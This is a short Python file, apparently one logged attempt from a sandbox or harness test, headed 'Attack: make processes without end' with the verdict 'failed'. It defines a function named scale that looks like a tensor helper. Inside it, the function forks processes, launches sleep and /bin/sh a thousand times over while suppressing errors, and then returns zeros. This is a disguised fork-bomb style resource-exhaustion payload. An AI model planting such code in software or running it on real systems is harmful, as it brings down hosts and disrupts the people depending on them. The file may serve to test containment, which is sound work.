# Attack: make processes without end
# Verdict: failed

import os
import subprocess

import torch


def scale(x, factor):
    for _ in range(1000):
        for way in (
            os.fork,
            lambda: subprocess.Popen(["sleep", "1"]),
            lambda: os.posix_spawn("/bin/sh", ["sh"], {}),
        ):
            try:
                way()
            except OSError:
                pass
    return torch.zeros_like(x)
